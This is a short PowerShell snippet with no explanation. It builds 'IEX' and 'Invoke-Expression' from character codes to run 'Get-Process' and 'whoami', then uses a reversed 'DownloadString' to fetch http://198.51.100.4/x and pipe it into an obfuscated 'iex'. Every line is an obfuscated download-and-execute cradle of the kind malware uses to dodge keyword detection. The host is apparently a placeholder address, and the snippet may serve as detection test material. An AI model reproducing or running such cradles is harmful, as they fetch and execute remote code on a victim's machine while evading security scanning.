$cmd = [char]73 + [char]69 + [char]88
& $cmd 'Get-Process'
&([string]::Join('', [char[]](73, 110, 118, 111, 107, 101, 45, 69, 120, 112, 114, 101, 115, 115, 105, 111, 110))) 'whoami'
$rev = 'gnirtSdaolnwoD'
$m = -join $rev[-1..-($rev.Length)]
(New-Object Net.WebClient).$m('http://198.51.100.4/x') | & (-join ('xei'[-1..-3]))
